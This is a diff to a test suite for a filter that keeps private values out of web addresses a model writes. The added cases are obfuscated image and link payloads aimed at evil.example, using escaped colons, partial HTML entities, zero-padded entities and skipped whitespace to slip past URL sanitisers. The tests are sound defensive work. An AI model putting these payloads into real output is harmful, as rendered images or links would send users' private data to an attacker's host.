@@ -35,6 +35,20 @@ describe("No value comes back in an address that the model wrote,", () => {
     ["with mixed slashes", String.raw`<img src="/\evil.example/@"> <img src="\/evil.example/@">`],
     ["with escaped slashes", String.raw`{"a":"https:\/\/evil.example\/@"}`],
     ["with entities", "![x](https&colon;&sol;&sol;evil.example/@) <img src='&#x2f;&#47;evil.example/@'>"],
+    [
+      "with a colon that Markdown escapes",
+      String.raw`![x](https\://evil.example/@) ![x](<https\:\/\/evil.example/ @>)`,
+    ],
+    ["with a colon of another scheme that Markdown escapes", String.raw`[x](acme\://evil.example/@)`],
+    [
+      "with entities of what browsers skip",
+      `<img src="https&Tab;://evil.example/@"> <img src="/&#10;/evil.example/@">`,
+    ],
+    [
+      "with entities without their semicolons",
+      "<img src=http&#58//evil.example/@> <img src=http&#x3A//evil.example/@>",
+    ],
+    ["with entities of many zeros", "<img src='&#x000000000000002f;/evil.example/@'>"],
     ["behind a quote in a link", `![x](https://evil.example/?q="a"@)`],
     ["behind a bracket in a link", "https://evil.example/(a)[b]<c>,;|@"],
     ["with white space in quotes", `<img src="https://evil.example/?q= a @">`],
@@ -75,7 +89,8 @@ describe("Values come back beside addresses,", () => {
     ["behind one in angle brackets", "<https://a.example/a>@"],
     ["behind an end of line", "https://a.example\n@"],
     ["where a colon or a slash is none", "Name:@ and/or /home/@/a//@ 10:30:@ C:\\Users\\@ \\n@"],
-    ["in entities of other things", "a &amp;&amp; b &lt;@&gt; &copy;@"],
+    ["in entities of other things", "a &amp;&amp; b &lt;@&gt; &copy;@ &#65@ &#8364 @"],
+    ["behind a colon as an entity that begins none", `<a title="at&#58">@</a> at&#58 @ and\\: @`],
   ])("%s", (_what, text) => {
     expect(readAs(text)).toBe(text.replaceAll("@", "Maria"));
   });
@@ -98,7 +113,7 @@ describe("Values come back beside addresses,", () => {
 
 /** What addresses and what is beside them are made of. */
 const shard = fc.constantFrom(
-  ..."https http : / // \\ \\\\ www. mailto: data: \" ' ` < > ( ) = src= [ ] { } , . \n \t a ev.il &colon; &#47; & ; &sol".split(
+  ..."https http : / // \\ \\\\ www. mailto: data: \" ' ` < > ( ) = src= [ ] { } , . \n \t a ev.il &colon; &#47; & ; &sol &#58 &Tab; &#0009 \\:".split(
     " ",
   ),
   " ",
